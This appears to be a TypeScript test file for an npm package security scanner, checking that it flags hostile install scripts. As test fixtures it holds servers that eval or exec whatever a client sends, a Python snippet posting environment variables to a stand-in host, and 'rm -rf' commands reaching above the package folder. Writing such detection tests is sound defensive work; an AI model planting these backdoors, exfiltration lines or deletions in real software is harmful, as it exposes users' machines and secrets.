import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ContentFacts } from '../../src/model/fact.ts'
import { packedReading } from './python-reading.ts'

async function inspected(manifest: object, files: Readonly<Record<string, string>>): Promise<ContentFacts> {
  const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
  return inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
}

/** Servers that run what whoever connects says. */
const DOORS: readonly string[] = [
  `const app = require('express')(); app.get('/', (req, res) => res.send(eval(req.query.q))); app.listen(1)`,
  `import express from 'express'; const r = express.Router(); r.post('/', ({ body }) => { new Function(body.code)() })`,
  `require('http').createServer((req) => eval(decodeURIComponent(req.url))).listen(1)`,
  `require('https').createServer(o, (req, res) => { let b = ''; req.on('data', (d) => { b += d }); req.on('end', () => require('child_process').exec(b)) })`,
  `const s = require('http').createServer(); s.on('request', (req) => require('child_process').execSync(req.headers['x'])); s.listen(1)`,
  `const app = require('fastify')(); app.get('/', async (request) => eval(request.query.q)); app.listen({ port: 1 })`,
  `const Koa = require('koa'); const app = new Koa(); app.use((ctx) => { ctx.body = eval(ctx.query.q) }); app.listen(1)`,
  `const { Server } = require('socket.io'); new Server(1).on('connection', (s) => s.on('c', (c) => eval(c)))`,
]

/** Servers that answer. */
const ANSWERS: readonly string[] = [
  `const app = require('express')(); app.get('/', (req, res) => res.send('hello ' + req.query.q)); app.listen(1)`,
  `require('http').createServer((req, res) => { require('child_process').execFile('uptime', (e, out) => res.end(out)) })`,
  `const app = require('express')(); app.use(require('express').static('public')); app.listen(1)`,
]

t.test('a server that runs what it is asked is a door for everybody', async (t) => {
  for (const code of DOORS) {
    const { findings } = await inspected({ scripts: { postinstall: 'node a.mjs' } }, { 'a.mjs': code })
    t.ok(
      findings.some(({ check, severity }) => check === 'download-and-execute' && severity === 'critical'),
      code,
    )
  }
  for (const code of ANSWERS) {
    const { findings } = await inspected({ scripts: { postinstall: 'node a.mjs' } }, { 'a.mjs': code })
    t.same(
      findings.filter(({ severity }) => severity !== 'low'),
      [],
      code,
    )
  }
})

const STEALS = `import os, urllib.request\nurllib.request.urlopen('https://c.invalid/', data=str(os.environ).encode())\n`

t.test('a program in another language that a function starts is looked into', async (t) => {
  const starts = [
    `exports.run = () => require('child_process').execSync('python main.py')`,
    `module.exports = () => require('node-cmd').runSync('cd node_modules && cd sample && start /b python main.py')`,
    `exports.run = () => require('child_process').spawn('python3', [require('path').join(__dirname, 'main.py')])`,
  ]
  for (const code of starts) {
    const { findings } = await inspected({ main: 'index.js' }, { 'index.js': code, 'main.py': STEALS })
    t.ok(
      findings.some(({ check, moment }) => check === 'secrets-exfiltration' && moment === 'call'),
      code,
    )
  }
  const { findings } = await inspected({ main: 'index.js' }, { 'index.js': 'exports.a = 1', 'main.py': STEALS })
  t.same(findings, [], 'nothing starts it')
})

t.test('what leads out of a folder that only the shell knows is everything around it', async (t) => {
  const cases = [
    ['rm -fr $DIR/../..', 'critical'],
    ['rm -rf "$(pwd)/../../"*', 'critical'],
    ['rm -rf $DIR/../build', undefined],
    ['rm -rf "$DIR"', undefined],
    ['rm -f $DIR/../..', undefined],
  ] as const
  for (const [command, severity] of cases) {
    const script = `DIR="$( cd "$( dirname "$0" )" && pwd )"\n${command}\n`
    const { findings } = await inspected({ scripts: { postinstall: 'sh a.sh' } }, { 'a.sh': script })
    t.equal(findings.find(({ check }) => check === 'destruction')?.severity, severity, command)
  }
})
